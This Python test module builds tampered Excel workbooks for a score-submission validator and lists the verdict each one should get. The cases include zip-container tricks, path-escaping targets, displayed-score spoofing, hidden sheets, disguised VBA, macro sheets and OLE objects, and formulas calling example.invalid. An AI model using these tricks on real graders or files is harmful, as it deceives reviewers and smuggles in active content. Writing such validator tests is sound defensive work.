"""A crafted corpus: workbooks made from the worked example the way a submitter who wants a
better score (or a program with odd habits) would make them, one class at a time.

``CASES`` maps a case name to (class, builder, expected verdict, expected codes, where): the
builder takes the example's bytes and returns the crafted file's bytes; ``where`` is the
cell, name or part the finding must name (``None``: the file). Display cases also carry what
a person sees, which the LibreOffice test checks against LibreOffice's own rendering.
"""

from __future__ import annotations

import io
import re
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import tamper
from tamper import sheet_part

from aijri_xl.workbook.layout import SHEETS, SUMMARY_CELL, layout

SCORE_ID = SHEETS.index("Score") + 1
SUMMARY_INDEX = SHEETS.index("Summary")
NEW_SHEET = f"sheet{len(SHEETS) + 1}.xml"
SCORE_AT, ZONE_AT = SUMMARY_CELL["JobZone score"], SUMMARY_CELL["Zone"]


def _rels(sheet: str) -> str:
    return f"xl/worksheets/_rels/sheet{SHEETS.index(sheet) + 1}.xml.rels"

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
Builder = Callable[[bytes], bytes]


def entries(data: bytes) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return [(i, zf.read(i)) for i in zf.infolist()]


def rezip(items: list[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED,
          zip64: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as zf, warnings.catch_warnings():
        warnings.filterwarnings("ignore", "Duplicate name", UserWarning)  # a crafted case
        for name, body in items:
            with zf.open(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), "w",
                         force_zip64=zip64) as handle:
                handle.write(body)
    return out.getvalue()


def edit(data: bytes, changes: dict[str, Callable[[bytes], bytes | None]],
         extra: dict[str, bytes] | None = None) -> bytes:
    """Apply ``changes`` to parts (return ``None`` to drop one) and add ``extra``."""
    items = []
    for info, body in entries(data):
        if info.filename in changes:
            new = changes[info.filename](body)
            if new is None:
                continue
            body = new
        items.append((info.filename, body))
    items += list((extra or {}).items())
    return rezip(items)


def sub(part: str, old: str, new: str, count: int = 1) -> dict[str, Callable[[bytes], bytes]]:
    def change(body: bytes) -> bytes:
        text = body.decode("utf-8")
        assert old in text, f"{old!r} not in {part}"
        return text.replace(old, new, count).encode("utf-8")
    return {part: change}


def add_relationship(data: bytes, rels_part: str, rel_type: str, target: str,
                     extra: dict[str, bytes], content_type: str | None = None,
                     part_name: str | None = None, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="rIdX9" Type="{rel_type}" Target="{target}"{mode}/>'
    changes: dict[str, Callable[[bytes], bytes | None]] = {}
    existing = {i.filename for i, _ in entries(data)}
    if rels_part in existing:
        changes.update(sub(rels_part, "</Relationships>", rel + "</Relationships>"))
    else:
        extra = {**extra, rels_part: (f'<?xml version="1.0" encoding="UTF-8"?><Relationships '
                                      f'xmlns="{PKG_REL}">{rel}</Relationships>').encode()}
    if content_type:
        changes.update(sub("[Content_Types].xml", "</Types>",
                           f'<Override PartName="/{part_name}" ContentType="{content_type}"/>'
                           "</Types>"))
    return edit(data, changes, extra)


# --- the zip container ------------------------------------------------------------------

def appended_archive(good: bytes) -> bytes:
    return good + rezip([("evil.txt", b"a second archive behind the workbook")])


def prepended_data(good: bytes) -> bytes:
    return rezip([("x.txt", b"a")])[:30] + b"junk" * 64 + good


def duplicate_entry(good: bytes) -> bytes:
    items = [(i.filename, b) for i, b in entries(good)]
    sheet = sheet_part("Score")
    decoy = next(b for n, b in items if n == sheet).replace(b"<v>52.8</v>", b"<v>91</v>")
    return rezip([*items, (sheet, decoy)])


def local_name_differs(good: bytes) -> bytes:
    data = bytearray(good)
    at = data.find(sheet_part("Score").encode())
    data[at:at + 3] = b"XL/"  # the local header names another part than the directory
    return bytes(data)


def bzip2_entry(good: bytes) -> bytes:
    items = [(i.filename, b) for i, b in entries(good)]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in items:
            method = zipfile.ZIP_BZIP2 if name == "xl/styles.xml" else zipfile.ZIP_DEFLATED
            zf.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), body, method)
    return out.getvalue()


def inflates_past_size(good: bytes) -> bytes:
    """The sheet's declared size (local and central) is 10 bytes short of its data."""
    items = [(i.filename, b) for i, b in entries(good)]
    data = bytearray(rezip(items))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo(sheet_part("Score"))
        body = zf.read(info)
    short = info.file_size - 10
    crc = zlib.crc32(body[:short])
    struct.pack_into("<III", data, info.header_offset + 14, crc, info.compress_size, short)
    cd = data.find(b"PK\x01\x02")
    while cd >= 0:
        (offset,) = struct.unpack_from("<I", data, cd + 42)
        if offset == info.header_offset:
            struct.pack_into("<III", data, cd + 16, crc, info.compress_size, short)
            break
        cd = data.find(b"PK\x01\x02", cd + 4)
    return bytes(data)


def zip64(good: bytes) -> bytes:
    return rezip([(i.filename, b) for i, b in entries(good)], zip64=True)


def stored(good: bytes) -> bytes:
    return rezip([(i.filename, b) for i, b in entries(good)], zipfile.ZIP_STORED)


# --- the package and its relationships ---------------------------------------------------

def no_content_types(good: bytes) -> bytes:
    return edit(good, {"[Content_Types].xml": lambda b: None})


def no_package_rels(good: bytes) -> bytes:
    return edit(good, {"_rels/.rels": lambda b: None})


def workbook_elsewhere(good: bytes) -> bytes:
    """The workbook at xl/book.xml, found through _rels/.rels (Excel opens it)."""
    items = []
    for info, body in entries(good):
        name = info.filename
        if name == "xl/workbook.xml":
            name = "xl/book.xml"
        elif name == "xl/_rels/workbook.xml.rels":
            name = "xl/_rels/book.xml.rels"
        elif name == "_rels/.rels":
            body = body.replace(b'Target="xl/workbook.xml"', b'Target="/xl/book.xml"')
        elif name == "[Content_Types].xml":
            body = body.replace(b'PartName="/xl/workbook.xml"', b'PartName="/xl/book.xml"')
        items.append((name, body))
    return rezip(items)


def strings_elsewhere_with_decoy(good: bytes) -> bytes:
    """The real shared strings at xl/text.xml (through the workbook's relationships) and a
    decoy at the usual name whose zone text says RED: Excel reads the real ones."""
    items = []
    for info, body in entries(good):
        name = info.filename
        if name == "xl/sharedStrings.xml":
            items.append(("xl/text.xml", body))
            body = body.replace(b"HPC Developer", b"Decoy Role")
        elif name == "xl/_rels/workbook.xml.rels":
            body = body.replace(b'Target="sharedStrings.xml"', b'Target="text.xml"')
        elif name == "[Content_Types].xml":
            body = body.replace(b'PartName="/xl/sharedStrings.xml"', b'PartName="/xl/text.xml"')
        items.append((name, body))
    return rezip(items)


def target_escapes(good: bytes) -> bytes:
    return edit(good, sub("xl/_rels/workbook.xml.rels", 'Target="styles.xml"',
                          'Target="../../../etc/styles.xml"'))


def wrong_workbook_type(good: bytes) -> bytes:
    return edit(good, sub("[Content_Types].xml", "spreadsheetml.sheet.main+xml",
                          "wordprocessingml.document.main+xml"))


def strict_open_xml(good: bytes) -> bytes:
    """The namespaces and relationship types of ISO/IEC 29500 Strict."""
    def strict(body: bytes) -> bytes:
        return (body.replace(MAIN.encode(), b"http://purl.oclc.org/ooxml/spreadsheetml/main")
                .replace(REL.encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships"))
    return rezip([(i.filename, strict(b) if i.filename.endswith((".xml", ".rels")) else b)
                  for i, b in entries(good)])


def strict_unreadable(good: bytes) -> bytes:
    """A Strict workbook whose sheet is in no SpreadsheetML namespace: refused with the
    Save As instruction."""
    data = strict_open_xml(good)
    return edit(data, sub(sheet_part("Score"), "http://purl.oclc.org/ooxml/spreadsheetml/main",
                          "http://example.invalid/other"))


# --- cells and strings -------------------------------------------------------------------

def negative_string_index(good: bytes) -> bytes:
    """Python's indexing would turn -1 into the last string; Excel refuses the file."""
    return edit(good, {sheet_part("Score"): lambda b: re.sub(
        rb'(<c r="A16"[^>]*t="s"><v>)[0-9]+(</v>)', rb"\g<1>-1\g<2>", b, count=1)})


def superscript_string_index(good: bytes) -> bytes:
    """``²`` is a digit to ``str.isdigit`` but not to ``int``, nor to Excel."""
    return edit(good, {sheet_part("Score"): lambda b: re.sub(
        rb'(<c r="A16"[^>]*t="s"><v>)([0-9]+)(</v>)', "\\g<1>\\g<2>²\\g<3>".encode(), b,
        count=1)})


def superscript_style(good: bytes) -> bytes:
    return edit(good, {sheet_part("Score"): lambda b: re.sub(
        rb'(<c r="B16" s=")([0-9]+)"', "\\g<1>\\g<2>²\"".encode(), b, count=1)})


def superscript_reference(good: bytes) -> bytes:
    return edit(good, sub(sheet_part("Score"), '<c r="B16"', '<c r="B1²"'))


def other_digits_value(text: str) -> Builder:
    """The final score's stored value with digits Python's ``float`` reads and LibreOffice
    does not (it shows 0 for ``٥٢.٨`` and 5 for ``5_2.8``)."""
    def build(good: bytes) -> bytes:
        return edit(good, {sheet_part("Summary"): lambda b: re.sub(
            rf'(<c r="{SCORE_AT}"[^>]*>.*?<v>)[^<]*(</v>)'.encode(),
            rb"\g<1>" + text.encode() + rb"\g<2>", b, count=1)})
    return build


def superscript_column_span(good: bytes) -> bytes:
    """A column span Excel refuses; read as column 1 it would say the Summary's A is
    hidden, or not."""
    return edit(good, {sheet_part("Summary"): lambda b: re.sub(
        rb'(<col min=")[0-9]+(" max=")[0-9]+', "\\g<1>²\\g<2>²".encode(), b, count=1)})


def duplicate_cell(good: bytes) -> bytes:
    return edit(good, sub(sheet_part("Score"), '<c r="B16"', '<c r="B16" s="23"><v>91</v></c>'
                          '<c r="B16"'))


def alternate_content_cell(good: bytes) -> bytes:
    mc = "http://schemas.openxmlformats.org/markup-compatibility/2006"
    part = sheet_part("Score")
    return edit(good, {part: lambda b: re.sub(
        rb'(<c r="B16".*?</c>)', lambda m: (
            f'<mc:AlternateContent xmlns:mc="{mc}"><mc:Choice Requires="x14">'
            '<c r="B16" s="23"><v>91</v></c></mc:Choice><mc:Fallback>').encode()
        + m.group(1) + b"</mc:Fallback></mc:AlternateContent>", b, count=1)})


def iso_date_cell(good: bytes) -> bytes:
    ref = layout().by_name["assessment_date"].ref
    return edit(good, {sheet_part("Role"): lambda b: re.sub(
        f'<c r="{ref}" s="(\\d+)"/>'.encode(),
        f'<c r="{ref}" s="\\1" t="d"><v>2026-02-14T00:00:00</v></c>'.encode(), b, count=1)})


def inline_strings(good: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(good)) as zf:
        sst = zf.read("xl/sharedStrings.xml").decode()
    items = re.findall(r"<si>(.*?)</si>", sst, re.S)

    def inline(body: bytes) -> bytes:
        return re.sub(rb'(<c r="[A-Z]+[0-9]+"[^>]*?) t="s"([^>]*)><v>([0-9]+)</v></c>',
                      lambda m: m.group(1) + b' t="inlineStr"' + m.group(2) + b"><is>"
                      + items[int(m.group(3))].encode() + b"</is></c>", body)
    changes: dict[str, Callable[[bytes], bytes | None]] = {
        sheet_part(s): inline for s in tamper.SHEETS}
    return edit(good, changes)


def utf16_sheet(good: bytes) -> bytes:
    part = sheet_part("Score")
    return edit(good, {part: lambda b: b.decode().replace('encoding="UTF-8"',
                                                          'encoding="UTF-16"').encode("utf-16")})


def bom_sheet(good: bytes) -> bytes:
    return edit(good, {sheet_part("Tasks"): lambda b: b"\xef\xbb\xbf" + b})


def whole_column_name(good: bytes) -> bytes:
    return tamper.redirect_name(good, "task_time", "Tasks!$C:$C")


# --- what is displayed -------------------------------------------------------------------

def restyle(good: bytes, sheet: str, ref: str, *, fmt: str | None = None,
            font: str | None = None, fill: str | None = None) -> bytes:
    """Give one cell a new cell format: a copy of its own with another number format, font
    or fill."""
    with zipfile.ZipFile(io.BytesIO(good)) as zf:
        styles = zf.read("xl/styles.xml").decode()
        xml = zf.read(sheet_part(sheet)).decode()
    m = re.search(rf'<c r="{ref}" s="([0-9]+)"', xml)
    assert m, ref
    xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, re.S)
    assert xfs
    xf_list = re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", xfs.group(1), re.S)
    xf = xf_list[int(m.group(1))]
    if fmt is not None:
        styles = styles.replace("</numFmts>", f'<numFmt numFmtId="200" formatCode='
                                f'"{_attr(fmt)}"/></numFmts>')
        xf = re.sub(r'numFmtId="[0-9]+"', 'numFmtId="200"', xf)
    if font is not None:
        block = re.search(r"<fonts[^>]*>(.*?)</fonts>", styles, re.S)
        assert block
        count = len(re.findall(r"<font[ >]", block.group(1)))
        styles = styles.replace("</fonts>", font + "</fonts>")
        xf = re.sub(r'fontId="[0-9]+"', f'fontId="{count}"', xf)
    if fill is not None:
        block = re.search(r"<fills[^>]*>(.*?)</fills>", styles, re.S)
        assert block
        count = len(re.findall(r"<fill[ >]", block.group(1)))
        styles = styles.replace("</fills>", fill + "</fills>")
        xf = re.sub(r'fillId="[0-9]+"', f'fillId="{count}"', xf)
    styles = styles.replace("</cellXfs>", xf + "</cellXfs>")
    index = len(xf_list)
    new_xml = xml.replace(m.group(0), f'<c r="{ref}" s="{index}"', 1)
    return edit(good, {"xl/styles.xml": lambda b: styles.encode(),
                       sheet_part(sheet): lambda b: new_xml.encode()})


def _attr(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;").replace("<", "&lt;")


def hide_sheet(state: str) -> Builder:
    score = f'<sheet name="Score" sheetId="{SCORE_ID}"'
    return lambda good: edit(good, sub("xl/workbook.xml", score, f'{score} state="{state}"'))


def hide_row(good: bytes) -> bytes:
    part = sheet_part("Score")
    return edit(good, {part: lambda b: re.sub(rb'<row r="16"', b'<row r="16" hidden="1"', b,
                                              count=1)})


def hide_column(good: bytes) -> bytes:
    return edit(good, {sheet_part("Score"): lambda b: re.sub(
        rb'<col min="2" max="2"', b'<col min="2" max="2" hidden="1"', b, count=1)})


def conditional_number_format(good: bytes) -> bytes:
    with_dxf = edit(good, sub("xl/styles.xml", "</dxfs>", '<dxf><numFmt numFmtId="201" '
                              'formatCode="&quot;91.0&quot;"/></dxf></dxfs>'))
    with zipfile.ZipFile(io.BytesIO(good)) as z:  # the new dxf's index: after the others
        dxf = z.read("xl/styles.xml").count(b"<dxf>")
    return edit(with_dxf, sub(sheet_part("Summary"), "</sheetData>",
                              f'</sheetData><conditionalFormatting sqref="{SCORE_AT}"><cfRule '
                              f'type="expression" dxfId="{dxf}" priority="1000"><formula>TRUE'
                              "</formula></cfRule></conditionalFormatting>"))


# --- active content ----------------------------------------------------------------------

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def vba_under_another_name(good: bytes) -> bytes:
    return add_relationship(good, "xl/_rels/workbook.xml.rels",
                            "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                            "media/image1.png", {"xl/media/image1.png": OLE})


def external_link_elsewhere(good: bytes) -> bytes:
    link = (f'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="{MAIN}">'
            "<externalBook/></externalLink>").encode()
    with_link = add_relationship(
        good, "xl/_rels/workbook.xml.rels", f"{REL}/externalLink", "misc/notes.xml",
        {"xl/misc/notes.xml": link})
    return add_relationship(with_link, "xl/misc/_rels/notes.xml.rels",
                            f"{REL}/externalLinkPath", "file://server/share/scores.xlsx", {},
                            external=True)


def web_connection(good: bytes) -> bytes:
    conn = (f'<?xml version="1.0" encoding="UTF-8"?><connections xmlns="{MAIN}"><connection '
            'id="1" name="w" type="4" refreshOnLoad="1"><webPr url="https://example.invalid/'
            'x"/></connection></connections>').encode()
    return add_relationship(
        good, "xl/_rels/workbook.xml.rels", f"{REL}/connections", "data.xml",
        {"xl/data.xml": conn}, "application/vnd.openxmlformats-officedocument.spreadsheetml."
        "connections+xml", "xl/data.xml")


def macro_sheet(good: bytes) -> bytes:
    sheet = (f'<?xml version="1.0" encoding="UTF-8"?><xm:macrosheet xmlns:xm="http://'
             f'schemas.microsoft.com/office/excel/2006/main" xmlns="{MAIN}"><sheetData/>'
             "</xm:macrosheet>").encode()
    return add_relationship(
        good, "xl/_rels/workbook.xml.rels",
        "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
        f"worksheets/{NEW_SHEET}", {f"xl/worksheets/{NEW_SHEET}": sheet},
        "application/vnd.ms-excel.macrosheet+xml", f"xl/worksheets/{NEW_SHEET}")


def ole_object(good: bytes) -> bytes:
    return add_relationship(
        good, _rels("Summary"), f"{REL}/oleObject",
        "../embeddings/thing.bin", {"xl/embeddings/thing.bin": OLE})


def remote_hyperlink_relationship(good: bytes) -> bytes:
    return add_relationship(good, _rels("Commentary"), f"{REL}/hyperlink",
                            "https://example.invalid/", {}, external=True)


def image_from_pieces(good: bytes) -> bytes:
    return tamper.set_formula(good, "Commentary", "D20",
                              'IMAGE("ht"&"tps://"&"example.invalid/"&final_score)', 0)


def extra_formula(good: bytes) -> bytes:
    return tamper.set_formula(good, "Commentary", "D20", "1+1", 2)


def foreign_function(good: bytes) -> bytes:
    return tamper.set_formula(good, "Score", "B16",
                              'IF(ready_all,IF(ISNUMBER(override_score),override_score,'
                              'SQRT(score*score)),"")', 52.8)  # SQRT: in no template formula


def defined_name_calls_out(good: bytes) -> bytes:
    return edit(good, sub("xl/workbook.xml", "</definedNames>",
                          '<definedName name="fetch">WEBSERVICE("https://example.invalid")'
                          "</definedName></definedNames>"))


def local_name_shadows(good: bytes) -> bytes:
    return edit(good, sub("xl/workbook.xml", "</definedNames>",
                          f'<definedName name="final_score" localSheetId="{SUMMARY_INDEX}">91'
                          '</definedName>'
                          "</definedNames>"))


# --- resource exhaustion ------------------------------------------------------------------

def name_to_whole_sheet(good: bytes) -> bytes:
    return tamper.redirect_name(good, "task_score", "Tasks!$A:$XFD")


def far_away_total(good: bytes) -> bytes:
    with_far = tamper.set_value(good, "Tasks", "A30", "Totals moved")
    return edit(with_far, sub(sheet_part("Tasks"), "</sheetData>",
                              '<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>Total'
                              "</t></is></c></row></sheetData>"))


def heavy_extra_formulas(good: bytes) -> bytes:
    once = tamper.set_formula(good, "Commentary", "D20",
                              "SUMPRODUCT(Tasks!A:XFD*Tasks!A:XFD)", 0)
    return tamper.set_formula(once, "Commentary", "D21", "SUM(Tasks!1:1048576)", 0)


def heavy_template_formula(good: bytes) -> bytes:
    return tamper.set_formula(good, "Tasks", "E30",
                              'IF(ready_tasks,SUMPRODUCT(Tasks!C:C,Tasks!D:D),"")', 2.25)


def million_elements(good: bytes) -> bytes:
    return edit(good, sub(sheet_part("Commentary"), "</worksheet>",
                          "<extLst>" + "<a/>" * 1_000_000 + "</extLst></worksheet>"))


def deep_nesting(good: bytes) -> bytes:
    """Elements nested past the reader's bound (inside an extension, where nothing is read)."""
    from aijri_xl.workbook.limits import MAX_DEPTH

    depth = MAX_DEPTH + 5
    return edit(good, sub(sheet_part("Commentary"), "</worksheet>",
                          "<extLst>" + "<a>" * depth + "</a>" * depth + "</extLst></worksheet>"))


def long_text(good: bytes) -> bytes:
    """One cell whose text is longer than any cell can hold, escapes included."""
    from aijri_xl.workbook.limits import MAX_TEXT_CHARS

    return tamper.set_value(good, "Score", "B16", "x" * (MAX_TEXT_CHARS + 1))


def doctype_across_chunks(good: bytes) -> bytes:
    """A DTD whose ``<!DOCTYPE`` straddles two of the chunks the part is parsed in."""
    from aijri_xl.workbook.xmlparts import CHUNK

    def change(body: bytes) -> bytes:
        head = b'<?xml version="1.0" encoding="UTF-8"?>'
        pad = b"<!--" + b"x" * (CHUNK - len(head) - 4 - 3 - 4) + b"-->"
        return (head + pad + b'<!DOCTYPE worksheet [<!ENTITY e "91">]>'
                + body[body.index(b"<worksheet"):])
    return edit(good, {sheet_part("Score"): change})


def utf16_large_part(good: bytes) -> bytes:
    """The largest sheet in UTF-16 (little-endian, with its mark), several chunks long."""
    return edit(good, {sheet_part("Tasks"): lambda b: b.decode().replace(
        'encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")})


@dataclass(frozen=True)
class Case:
    klass: str
    build: Builder
    verdict: str
    codes: frozenset[str]
    where: str | None = None
    shows: str | None = None  # display cases: the text a person sees at ``where``


def _case(klass: str, build: Builder, verdict: str, codes: str = "", where: str | None = None,
          shows: str | None = None) -> Case:
    return Case(klass, build, verdict, frozenset(codes.split()), where, shows)


CASES: dict[str, Case] = {
    # zip container
    "appended-archive": _case("zip", appended_archive, "FAIL", "AIJ-F210"),
    "prepended-data": _case("zip", prepended_data, "FAIL", "AIJ-F210"),
    "duplicate-entry": _case("zip", duplicate_entry, "FAIL", "AIJ-F208"),
    "local-header-differs": _case("zip", local_name_differs, "FAIL", "AIJ-F209"),
    "bzip2-entry": _case("zip", bzip2_entry, "FAIL", "AIJ-F211"),
    "inflates-past-size": _case("zip", inflates_past_size, "FAIL", "AIJ-F212"),
    # package and relationships
    "no-content-types": _case("package", no_content_types, "FAIL", "AIJ-F207"),
    "no-package-rels": _case("package", no_package_rels, "FAIL", "AIJ-F207"),
    "target-escapes": _case("package", target_escapes, "FAIL", "AIJ-F214"),
    "wrong-workbook-type": _case("package", wrong_workbook_type, "FAIL", "AIJ-F207"),
    "strict-unreadable": _case("package", strict_unreadable, "FAIL", "AIJ-F213"),
    # cells and strings
    "negative-string-index": _case("cell", negative_string_index, "FAIL", "AIJ-F215",
                                   "Score!A16"),
    "duplicate-cell": _case("cell", duplicate_cell, "FAIL", "AIJ-F215", "Score!B16"),
    "superscript-string-index": _case("cell", superscript_string_index, "FAIL", "AIJ-F215",
                                      "Score!A16"),
    "superscript-style": _case("cell", superscript_style, "FAIL", "AIJ-F215", "Score!B16"),
    "arabic-indic-digits": _case("cell", other_digits_value("٥٢.٨"), "FAIL", "AIJ-F215",
                                 f"Summary!{SCORE_AT}"),
    "underscore-in-number": _case("cell", other_digits_value("5_2.8"), "FAIL", "AIJ-F215",
                                  f"Summary!{SCORE_AT}"),
    "superscript-column-span": _case("cell", superscript_column_span, "FAIL", "AIJ-F215"),
    "superscript-reference": _case("cell", superscript_reference, "FAIL", "AIJ-F215",
                                   "Score!B1²"),
    "alternate-content-cell": _case("cell", alternate_content_cell, "FAIL", "AIJ-F215"),
    "whole-column-name": _case("cell", whole_column_name, "FAIL", "AIJ-X303", "task_time"),
    # display
    "score-shows-other-number": _case("display", lambda g: restyle(
        g, "Summary", SCORE_AT, fmt='"91.0"'), "FAIL", "AIJ-X320", f"Summary!{SCORE_AT}", "91.0"),
    "final-score-condition": _case("display", lambda g: restyle(
        g, "Score", "B16", fmt='[>=50]"91.0";0.0'), "FAIL", "AIJ-X320", "Score!B16", "91.0"),
    "zone-shows-other-zone": _case("display", lambda g: restyle(
        g, "Summary", ZONE_AT, fmt=';;;"RED"'), "FAIL", "AIJ-X320", f"Summary!{ZONE_AT}", "RED"),
    "score-shown-as-percent": _case("display", lambda g: restyle(
        g, "Score", "B11", fmt="0%"), "FAIL", "AIJ-X320", "Score!B11", "5280%"),
    "fraction-format": _case("display", lambda g: restyle(
        g, "Score", "B16", fmt="# ?/?"), "FAIL", "AIJ-X321", "Score!B16"),
    "same-text-other-format": _case("display", lambda g: restyle(
        g, "Score", "B16", fmt="0.0;-0.0;0.0;@"), "PASS", "", "Score!B16", "52.8"),
    "white-on-white": _case("display", lambda g: restyle(
        g, "Summary", SCORE_AT, font='<font><sz val="22"/><color rgb="FFFFFFFF"/></font>',
        fill='<fill><patternFill patternType="none"/></fill>'), "FAIL", "AIJ-X324",
        f"Summary!{SCORE_AT}"),
    "tiny-font": _case("display", lambda g: restyle(
        g, "Score", "B16", font='<font><sz val="1"/></font>'), "FAIL", "AIJ-X324",
        "Score!B16"),
    "hidden-sheet": _case("display", hide_sheet("hidden"), "FAIL", "AIJ-X322", "Score"),
    "very-hidden-sheet": _case("display", hide_sheet("veryHidden"), "FAIL", "AIJ-X322",
                               "Score"),
    "hidden-row": _case("display", hide_row, "FAIL", "AIJ-X323", "Score!B16"),
    "hidden-column": _case("display", hide_column, "FAIL", "AIJ-X323", "Score!B16"),
    "conditional-number-format": _case("display", conditional_number_format, "FAIL",
                                       "AIJ-X325", f"Summary!{SCORE_AT}"),
    # active content
    "vba-under-another-name": _case("active", vba_under_another_name, "FAIL", "AIJ-X309"),
    "external-link-elsewhere": _case("active", external_link_elsewhere, "FAIL", "AIJ-X308"),
    "web-connection": _case("active", web_connection, "FAIL", "AIJ-X313"),
    "macro-sheet": _case("active", macro_sheet, "FAIL", "AIJ-X311"),
    "ole-object": _case("active", ole_object, "FAIL", "AIJ-X312"),
    "remote-hyperlink": _case("active", remote_hyperlink_relationship, "FAIL", "AIJ-X308"),
    "image-from-pieces": _case("active", image_from_pieces, "FAIL", "AIJ-X308 AIJ-X314",
                               "Commentary!D20"),
    "extra-formula": _case("active", extra_formula, "FAIL", "AIJ-X314", "Commentary!D20"),
    "foreign-function": _case("active", foreign_function, "FAIL", "AIJ-X306 AIJ-X315",
                              "Score!B16"),
    "name-calls-out": _case("active", defined_name_calls_out, "FAIL", "AIJ-X308 AIJ-X315",
                            "fetch"),
    "local-name-shadows": _case("active", local_name_shadows, "FAIL", "AIJ-X303",
                                "Summary!final_score"),
    # resource exhaustion
    "name-to-whole-sheet": _case("resource", name_to_whole_sheet, "FAIL", "AIJ-X303",
                                 "task_score"),
    # the task table is found through its defined names, so a Total label moved a
    # million rows down is neither scanned for nor needed (issue 12)
    "far-away-total": _case("resource", far_away_total, "PASS", ""),
    "heavy-extra-formulas": _case("resource", heavy_extra_formulas, "FAIL", "AIJ-X314",
                                  "Commentary!D20"),
    "heavy-template-formula": _case("resource", heavy_template_formula, "FAIL",
                                    "AIJ-X306 AIJ-X326", "Tasks!E30"),
    "million-elements": _case("resource", million_elements, "FAIL", "AIJ-F205"),
    "deep-nesting": _case("resource", deep_nesting, "FAIL", "AIJ-F205"),
    "long-text": _case("resource", long_text, "FAIL", "AIJ-F205"),
    "doctype-across-chunks": _case("resource", doctype_across_chunks, "FAIL", "AIJ-F205"),
    # odd but genuine
    "zip64": _case("genuine", zip64, "PASS"),
    "stored": _case("genuine", stored, "PASS"),
    "workbook-elsewhere": _case("genuine", workbook_elsewhere, "PASS"),
    "strings-elsewhere-decoy": _case("genuine", strings_elsewhere_with_decoy, "PASS"),
    "strict-open-xml": _case("genuine", strict_open_xml, "PASS"),
    "iso-date-cell": _case("genuine", iso_date_cell, "PASS"),
    "inline-strings": _case("genuine", inline_strings, "PASS"),
    "utf16-part": _case("genuine", utf16_sheet, "PASS"),
    "bom-part": _case("genuine", bom_sheet, "PASS"),
    "utf16-large-part": _case("genuine", utf16_large_part, "PASS"),
}
